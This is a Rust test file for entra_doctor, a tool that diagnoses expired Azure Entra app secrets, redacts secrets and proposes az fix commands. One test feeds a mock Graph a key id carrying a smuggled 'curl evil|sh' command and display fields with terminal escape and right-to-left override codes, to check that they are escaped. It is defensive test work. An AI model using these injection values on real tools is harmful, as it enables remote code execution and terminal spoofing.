//! Issue 17, point 2: the expiry of the credential in use where it matters. `doctor` against the
//! demo tenant (the expired-secret app read with the healthy app as admin; the healthy app with
//! its own token), and the registration read from a hostile Graph on wiremock.

use chrono::{DateTime, Utc};
use entra_doctor::Secret;
use entra_doctor::auth::{
    Authority, AuthorityHost, ClientOptions, Credential, ScopeSet, Tenant, TokenRequest,
};
use entra_doctor::diagnose::{FixContext, expiry};
use entra_doctor::environment::Environment;
use entra_doctor::registration::lookup::{Lookup, look_up};
use serde_json::{Value, json};
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

use crate::support::{CLIENT_ID, real_clock_binary, start_demo};

/// A fixed clock for the day counts: the demo checks the secret's end date with the real one.
const NOW: &str = "2026-12-01T00:00:00Z";

pub(crate) fn now() -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(NOW)
        .unwrap()
        .with_timezone(&Utc)
}

fn doctor_json(
    demo: &entra_doctor::demo::RunningDemo,
    scenario: &str,
    admin: bool,
) -> (Option<i32>, Value, String) {
    let app = demo.app(scenario).unwrap();
    let healthy = demo.app("healthy").unwrap();
    let mut command = real_clock_binary();
    command
        .env("ENTRA_DOCTOR_NOW", NOW)
        .env("AZURE_CLIENT_SECRET", app.secret.as_ref().unwrap().expose())
        .args([
            "-o",
            "json",
            "doctor",
            "--authority-host",
            demo.authority_host(),
        ])
        .args(["--tenant", demo.tenant_id(), "--client-id", &app.client_id])
        .args(["--scope", &app.scope]);
    if admin {
        command
            .env(
                "ENTRA_DOCTOR_ADMIN_SECRET",
                healthy.secret.as_ref().unwrap().expose(),
            )
            .args(["--admin-client-id", &healthy.client_id]);
    }
    let output = command.output().unwrap();
    let stdout = String::from_utf8(output.stdout).unwrap();
    let all = format!("{stdout}{}", String::from_utf8_lossy(&output.stderr));
    for app in demo.apps() {
        if let Some(secret) = &app.secret {
            assert!(
                !all.contains(secret.expose()),
                "{} secret leaked",
                app.scenario
            );
        }
    }
    let json = serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("{e}: {stdout}"));
    (output.status.code(), json, stdout)
}

fn finding<'a>(json: &'a Value, id: &str) -> &'a Value {
    json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == id)
        .unwrap_or_else(|| panic!("no {id}: {json:#}"))
}

fn step<'a>(json: &'a Value, name: &str) -> &'a Value {
    json["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == name)
        .unwrap_or_else(|| panic!("no step {name}: {json:#}"))
}

fn joined(list: &Value) -> String {
    list.as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect::<Vec<_>>()
        .join("\n")
}

#[tokio::test(flavor = "multi_thread")]
async fn aadsts7000222_names_the_expired_secret_and_the_one_still_valid() {
    let demo = start_demo().await;
    let (code, json, _) = doctor_json(&demo, "expired-secret", true);
    assert_eq!(code, Some(1));
    let refused = finding(&json, "AADSTS7000222");
    let evidence = joined(&refused["evidence"]);
    assert!(
        evidence.contains(
            "the secret in use: secret \"orders-sync 2024\", hint AU7…, key id \
             7b1c9e44-2d6a-4f0e-9c35-8a1f6b2d4e07, expired on 2025-06-30 (expired 519 days ago)"
        ),
        "{evidence}"
    );
    assert!(
        evidence.contains(
            "still valid: secret \"orders-sync 2025\", hint Rt2…, key id \
             c4e8a2f6-1b3d-4a5c-8e7f-9d0b2c4e6a81, valid until 2027-09-30 (expires in 303 days)"
        ),
        "{evidence}"
    );
    let fixes = joined(&refused["fixes"]);
    assert!(fixes.starts_with("Give the daemon the secret \"orders-sync 2025\" (hint Rt2…"));
    assert!(fixes.contains(
        "az ad app credential delete --id 89651b37-2886-47fc-946d-d19aaf0db309 --key-id \
         7b1c9e44-2d6a-4f0e-9c35-8a1f6b2d4e07"
    ));
    // The catalog's own words stay.
    assert!(fixes.contains("Add a new secret, roll it out to the daemon"));
    // The refusal is the verdict: no second error repeating it.
    assert!(
        json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["id"] != "credential.expired")
    );
    assert_eq!(step(&json, "credential")["outcome"], "failed");
    assert_eq!(
        json["credential"]["registration"]["matched"][0]["display_name"],
        "orders-sync 2024"
    );
    assert_eq!(
        json["credential"]["registration"]["matched"][0]["expiry"],
        json!({"state": "expired", "days_ago": 519})
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn aadsts7000222_without_graph_keeps_the_catalog_and_says_how_to_learn_the_names() {
    let demo = start_demo().await;
    let (code, json, _) = doctor_json(&demo, "expired-secret", false);
    assert_eq!(code, Some(1));
    let refused = finding(&json, "AADSTS7000222");
    let fixes = joined(&refused["fixes"]);
    assert!(
        fixes.starts_with("To learn which secret expired"),
        "{fixes}"
    );
    assert!(fixes.contains("--admin-client-id"), "{fixes}");
    assert!(fixes.contains("Add a new secret, roll it out to the daemon"));
    assert!(
        joined(&refused["evidence"]).contains("the app's own sign-in was refused"),
        "{refused:#}"
    );
    assert_eq!(step(&json, "credential")["outcome"], "skipped");
}

#[tokio::test(flavor = "multi_thread")]
async fn healthy_app_reads_its_own_secret_expiry_with_its_own_token() {
    let demo = start_demo().await;
    let (_, json, _) = doctor_json(&demo, "healthy", false);
    let credential = step(&json, "credential");
    assert_eq!(credential["outcome"], "passed");
    assert_eq!(
        credential["detail"],
        "secret 72a… (no display name): expires in 26693 days (2099-12-31)"
    );
    let info = finding(&json, "credential.expiry");
    assert_eq!(info["severity"], "info");
    assert!(joined(&info["evidence"]).contains("also registered: certificate \"CN=healthy\""));
}

/// A Graph that answers with escape codes in a hint and a display name, a date no credential
/// has, and a key id that is not a GUID.
#[tokio::test(flavor = "multi_thread")]
async fn hostile_graph_answers_are_escaped_and_kept_out_of_commands() {
    let graph = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path(format!("/v1.0/applications(appId='{CLIENT_ID}')")))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "id": "obj", "appId": CLIENT_ID, "displayName": "daemon",
            "passwordCredentials": [
                {"keyId": "x'; curl evil|sh; '", "hint": "CAN", "displayName": "\u{1b}]52;c;ZXZpbA==\u{7}pwn\u{202e}",
                 "endDateTime": "2026-12-10T00:00:00Z"},
                {"keyId": "k2", "hint": "\u{1b}[2J", "endDateTime": "not a date"},
                {"keyId": "k3", "hint": "Zz9", "endDateTime": "9999-12-31T23:59:59Z"},
                {"keyId": "k4", "hint": "Yy8", "endDateTime": "0001-01-01T00:00:00Z"}
            ]
        })))
        .mount(&graph)
        .await;
    let request = TokenRequest {
        authority: Authority::new(
            AuthorityHost::parse(&graph.uri()).unwrap(),
            Tenant::parse("7a1b2c3d-0000-4000-8000-00000000aaaa").unwrap(),
        ),
        token_endpoint: None,
        client_id: CLIENT_ID.to_owned(),
        scopes: ScopeSet::parse(&["https://graph.microsoft.com/.default"]).unwrap(),
        credential: Credential::Secret(Secret::new(crate::support::CANARY_SECRET)),
        claims: None,
    };
    let token = Secret::new("graph-token");
    let options = ClientOptions::default();
    let lookup = Lookup {
        request: &request,
        options: &options,
        daemon: None,
        admin: None,
        graph_url: Some(&graph.uri()),
        token: Some(&token),
        refused: false,
    };
    let in_use = look_up(&lookup, &Environment::default(), now(), 30).await;
    let registration = in_use.registration.as_ref().expect("read");
    assert_eq!(registration.matched.len(), 1, "{in_use:#?}");
    let found = expiry::findings(&in_use, &FixContext::default(), now());
    assert_eq!(found[0].id, "credential.expires-soon");
    let summary = expiry::summary(&in_use);
    let texts: Vec<&String> = found
        .iter()
        .flat_map(|f| {
            [&f.title, &f.cause]
                .into_iter()
                .chain(&f.evidence)
                .chain(&f.fixes)
        })
        .chain(std::iter::once(&summary))
        .collect();
    for text in &texts {
        assert!(
            !text.contains(['\u{1b}', '\u{7}', '\u{202e}', '\n']),
            "unescaped: {text:?}"
        );
        assert!(!text.contains(crate::support::CANARY_SECRET));
    }
    for fix in found.iter().flat_map(|f| &f.fixes) {
        assert!(
            !fix.contains("curl evil"),
            "a hostile key id in a command: {fix}"
        );
    }
    let all = texts
        .iter()
        .map(|t| t.as_str())
        .collect::<Vec<_>>()
        .join("\n");
    // Absurd and missing dates are states, never a panic.
    assert!(
        all.contains("hint Zz9…, key id k3, valid until 9999-12-31"),
        "{all}"
    );
    assert!(
        all.contains("hint Yy8…, key id k4, expired on 0001-01-01"),
        "{all}"
    );
    assert!(all.contains("key id k2, no end date"), "{all}");
    assert!(all.contains("--key-id <key-id>"), "{all}");
}

/// `d` in the TUI on the expired-secret lesson: the demo pre-fills the admin fields with the
/// healthy app, so the findings name the expired secret and the valid one, and the credentials
/// pane says it beside the form.
#[cfg(feature = "tui")]
#[tokio::test(flavor = "multi_thread")]
async fn tui_d_names_the_expired_secret_and_the_valid_one() {
    use crossterm::event::KeyCode;

    use crate::assert_frame;
    use crate::tui_harness::Harness;

    let mut h = Harness::demo(Some("expired-secret")).await;
    h.state.now = now();
    h.press(KeyCode::Char('d'));
    h.settle().await;
    let refused = &h.state.findings[0];
    assert_eq!(refused.id, "AADSTS7000222");
    let evidence = refused.evidence.join("\n");
    assert!(
        evidence.contains("\"orders-sync 2024\", hint AU7…"),
        "{evidence}"
    );
    assert!(
        evidence.contains("still valid: secret \"orders-sync 2025\", hint Rt2…"),
        "{evidence}"
    );
    assert!(refused.fixes[0].starts_with("Give the daemon the secret \"orders-sync 2025\""));
    // The credentials pane is where the operator looks first.
    h.press(KeyCode::Char('1'));
    let small = h.frame(80, 24);
    let large = h.frame(120, 40);
    assert!(large.contains("Expiry"), "{large}");
    assert_frame!("expired_secret_named_80x24", small.clone());
    assert_frame!("expired_secret_named_120x40", large.clone());
    h.assert_no_secret(&[&small, &large]);
}

/// `d` on the healthy lesson: the app reads its own registration with its Graph token.
#[cfg(feature = "tui")]
#[tokio::test(flavor = "multi_thread")]
async fn tui_d_on_a_healthy_app_shows_its_secret_expiry() {
    use crossterm::event::KeyCode;

    use crate::tui_harness::Harness;

    let mut h = Harness::demo(Some("healthy")).await;
    h.state.now = now();
    h.press(KeyCode::Char('d'));
    h.settle().await;
    let info = h
        .state
        .findings
        .iter()
        .find(|f| f.id == "credential.expiry")
        .unwrap_or_else(|| panic!("{:#?}", h.state.findings));
    assert_eq!(
        info.title,
        "The secret in use expires in 26693 days (2099-12-31)"
    );
    h.press(KeyCode::Char('1'));
    let frame = h.frame(120, 40);
    assert!(
        frame.contains("The secret in use expires in 26693 days"),
        "{frame}"
    );
    h.assert_no_secret(&[&frame]);
}
